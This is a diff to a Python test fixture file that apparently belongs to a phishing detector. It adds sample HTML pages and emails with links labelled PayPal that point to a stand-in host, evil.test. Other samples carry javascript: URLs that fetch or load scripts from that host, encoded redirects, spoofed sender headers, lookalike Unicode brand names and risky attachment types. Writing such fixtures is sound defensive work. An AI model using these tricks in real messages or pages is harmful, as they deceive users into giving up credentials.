@@ -17,6 +17,7 @@ from tests.documents.samples import paper, picture, zipped
 EVIL = "http://evil.test/x"
 BANK = "https://www.paypal.com/"
 CODE = base64.b64encode(f"location='{EVIL}'".encode()).decode()
+CODED = base64.b64encode(EVIL.encode()).decode()
 PASSWORD = "<input type=password>"
 PAGES = {
     "shown": f"<a href={EVIL}>{BANK}</a><a href={EVIL}>www.paypal.com.evil.test</a>",
@@ -59,6 +60,23 @@ PAGES = {
     "code": f"<script>// {EVIL}\nx = '{EVIL}?a';</script><!-- {EVIL}?b -->",
     "own": "<a href=http://page.test:80/../a%7eb>x</a><a href=//page.test/>y</a>"
     "<a href=tel:1>z</a>",
+    "redirects": f"<a href=https://t.co/x>{BANK}</a><a href={EVIL} title={BANK}>x</a>"
+    "<a href=mailto:a@evil.test>help@paypal.com</a>",
+    "xml": f"<svg xml:base={EVIL}><a xlink:href=a>x</a></svg><p xml:base={EVIL}><a href=b>x</a>",
+    "form-plain": f"<form action={EVIL}><input name=q></form>",
+    "handler": f"<p onmouseover=\"x('{EVIL}')\">a</p><a href=/a onclick=\"y='{EVIL}'\">b</a>",
+    "script-opens": f"<a href=\"javascript:window.open('{EVIL}')\">x</a>",
+    "script-rewrites": f"<a href=\"javascript:document.links[0].href='{EVIL}'\">x</a>",
+    "script-loads": f"<a href=\"javascript:s=document.createElement('script');"
+    f"s.src='{EVIL}';document.body.appendChild(s)\">x</a>",
+    "script-sends": f"<a href=\"javascript:fetch('{EVIL}')\">x</a>",
+    "script-hides": "<a href=\"javascript:eval(atob('YQ=='))\">x</a>",
+    "pieces": f"<a href={EVIL}>pay<i></i>pal<!-- -->.c&#8203;om</a>"
+    f"<a href={EVIL}>p<span style='display:none'>x</span>aypal.com</a>",
+    "hidden-text": f"<a href={EVIL}><span style='display:none'>x</span></a>",
+    "base-spelled": f"<base href={EVIL}/><a href='www.paypal.com/x'>x</a>",
+    "coded-move": f"<script>location=atob('{CODED}')</script>",
+    "script-writes": "<a href=\"javascript:document.write('<form>')\">x</a>",
 }
 HEAD = "From: A <a@a.test>\nTo: b@b.test\nSubject: x\nDate: Sat, 21 Nov 2026 01:10:00 +0100\n"
 
@@ -77,6 +95,8 @@ BOTH = (
 )
 FAILED = "Authentication-Results: mx.b.test; spf=fail smtp.mailfrom=a.test; dkim=none; dmarc=fail"
 PASSED = "Authentication-Results: mx.b.test; spf=pass smtp.mailfrom=a.test; dkim=pass; dmarc=pass"
+# "PayPal" in bold letters of mathematics.
+STYLED = "".join(chr(0x1D5D4 + ord(each) - ord("A") - 6 * each.islower()) for each in "PayPal")
 MAILS = {
     "plain": mail(""),
     "name-address": mail('From: "service@paypal.com" <x@evil.test>'),
@@ -129,6 +149,26 @@ MAILS = {
         "x\n--b\nContent-Type: message/rfc822\n\nFrom: PayPal <c@evil.test>\n\nhttp://d.test/\n--b--",
         "multipart/mixed; boundary=b",
     ).replace("; charset=utf-8", ""),
+    "sender-open": mail(
+        "From: Shop <x@a-1.firebaseapp.com>\nSubject: You have won\n"
+        + PASSED.replace("a.test", "a-1.firebaseapp.com")
+    ),
+    "listed-name": mail("From: PayPal Service, a@evil.test"),
+    "styled": mail(f"Subject: {STYLED}"),
+    "runs": mail(
+        "MIME-Version: 1.0",
+        '--b\nContent-Type: text/plain; name="a.js"\n\nx\n--b\n'
+        'Content-Type: application/octet-stream; name="a.lnk"\n\nx\n--b--',
+        "multipart/mixed; boundary=b",
+    ).replace("; charset=utf-8", ""),
+    "moves": mail(
+        "", f"<meta http-equiv=refresh content='0;url={EVIL}'><a href=https://x.test/>y</a>"
+    ),
+    "based": mail(f"Content-Base: {EVIL}/", "<a href=next>x</a>"),
+    "sender-no-domain": mail("From: A <x@correios>\nSubject: Encomenda retida"),
+    "reply-anyone": mail("From: PayPal <a@shop.test>\nReply-To: bob@gmail.com"),
+    "based-inside.eml": mail("", f"<base href={EVIL}/><a href=next>x</a><a href='#x'>y</a>"),
+    "known-name": mail("", f"<a href={EVIL}>Sign in to PayPal</a><a href={EVIL}>PayPal</a>"),
 }
 RTF = (
     rb"{\rtf1\ansi\ansicpg1252{\fonttbl{\f0\fcharset0 A;}{\f1\fcharset204 B;}}"
@@ -156,6 +196,8 @@ FILES = {
     "card.vcf": b"BEGIN:VCARD\nURL;TYPE=home:http://v.test/\nPHOTO;VALUE=uri:http://v.test/p\n",
     "go.url": b"[InternetShortcut]\nURL=http://u.test/\nIconFile=\\\\host\\share\\i.ico\n",
     "look.css": b"@import 'http://s.test/'; a { b: url(c.png) }",
+    "home.html": f"<!doctype html><base href={EVIL}/><a href=next>x</a><a href='#x'>y</a>".encode(),
+    "app.hta": b"<hta:application id=x><a href=http://a.test/>x</a>",
     "notes.txt": b"http://n.test/, www.m.test and mail to x@o.test\n(http://q.test/a_(b))",
 }  # fmt: skip
 # What a message and its envelope are in JSON: everything that can be said of the way it came.
